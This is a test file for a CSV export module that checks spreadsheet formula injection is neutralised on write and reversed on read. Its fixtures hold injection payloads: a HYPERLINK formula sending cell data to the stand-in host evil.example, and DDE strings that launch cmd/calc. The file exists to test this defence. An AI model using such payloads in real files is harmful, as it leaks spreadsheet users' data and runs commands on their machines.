import { csvParseRows } from 'd3-dsv';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { datasetToCsvFiles, loadCsvFiles } from './csv';
import {
	formatCsvRows,
	neutralizeCell,
	parseCsvRows,
	restoreCell,
	startsFormula
} from './csv-cell';

/** The injections the issue reports, and their cousins. */
const INJECTIONS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	'=1',
	'\t=1',
	'\r=1',
	"'=1",
	"''=1",
	"'",
	"'tis",
	'',
	'plain text'
];

/** Strings that start with the characters that matter more often than chance would have them. */
const cellText = fc.oneof(
	fc.string({ unit: 'grapheme', maxLength: 20 }),
	fc
		.tuple(
			fc.stringMatching(/^'{0,3}$/),
			fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ''),
			fc.string({ maxLength: 12 })
		)
		.map(([quotes, first, rest]) => quotes + first + rest),
	fc.constantFrom(...INJECTIONS)
);

describe('CSV cells Entente writes', () => {
	it('never start a formula, and read back as written', () => {
		fc.assert(
			// Rows of two or more cells: a row of one empty cell is an empty line, which is no row.
			fc.property(
				fc.array(fc.array(cellText, { minLength: 2, maxLength: 5 }), {
					minLength: 1,
					maxLength: 6
				}),
				(rows) => {
					const text = formatCsvRows(rows);
					// Every cell as a spreadsheet reads it: plain RFC 4180, no quote taken off.
					for (const cell of csvParseRows(text).flat()) expect(startsFormula(cell)).toBe(false);
					expect(parseCsvRows(text)).toEqual(rows);
				}
			),
			{ numRuns: 2000 }
		);
	});

	it.each(INJECTIONS)('neutralises %j and gives it back', (cell) => {
		const written = neutralizeCell(cell);
		expect(startsFormula(written)).toBe(false);
		expect(restoreCell(written)).toBe(cell);
		expect(parseCsvRows(formatCsvRows([[cell, 'x']]))).toEqual([[cell, 'x']]);
	});

	it('prefixes a quote only where a spreadsheet would run the cell', () => {
		expect(neutralizeCell('=1')).toBe("'=1");
		expect(neutralizeCell("'=1")).toBe("''=1");
		expect(neutralizeCell("'tis")).toBe("'tis");
		expect(neutralizeCell('1962-10-22')).toBe('1962-10-22');
		expect(restoreCell("'tis")).toBe("'tis");
	});

	it('a story whose labels are formulas comes back from its CSV tables unchanged', () => {
		const dataset = {
			id: 'hostile',
			title: '=HYPERLINK("http://evil.example","Click")',
			sources: [{ id: 's1', title: '+cmd|calc' }],
			actors: [
				{ id: 'a', name: "@SUM(1+1)*cmd|' /C calc'!A0", kind: 'country' as const },
				{ id: 'b', name: '-Bee', kind: 'country' as const }
			],
			events: [
				{
					id: 'e1',
					date: '2024-06-19',
					title: "'=already quoted",
					kind: 'agreement' as const,
					actors: ['a', 'b'],
					sources: [{ source: 's1' }]
				}
			],
			relations: [
				{
					id: 'r1',
					from: 'a',
					to: 'b',
					kind: 'alliance' as const,
					since: '2024-06-19',
					label: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
					sources: [{ source: 's1' }]
				}
			]
		};
		const files = datasetToCsvFiles(dataset);
		for (const file of files) {
			for (const row of csvParseRows(file.text)) {
				for (const cell of row) expect(startsFormula(cell), `${file.name}: ${cell}`).toBe(false);
			}
		}
		const back = loadCsvFiles(files);
		expect(back.ok).toBe(true);
		if (!back.ok) return;
		expect(back.story.data.title).toBe(dataset.title);
		expect(back.story.data.actors.map((a) => a.name)).toEqual([
			"@SUM(1+1)*cmd|' /C calc'!A0",
			'-Bee'
		]);
		expect(back.story.data.events[0]?.title).toBe("'=already quoted");
		expect(back.story.data.relations?.[0]?.label).toBe(dataset.relations[0]!.label);
		expect(back.story.data.sources[0]?.title).toBe('+cmd|calc');
	});
});
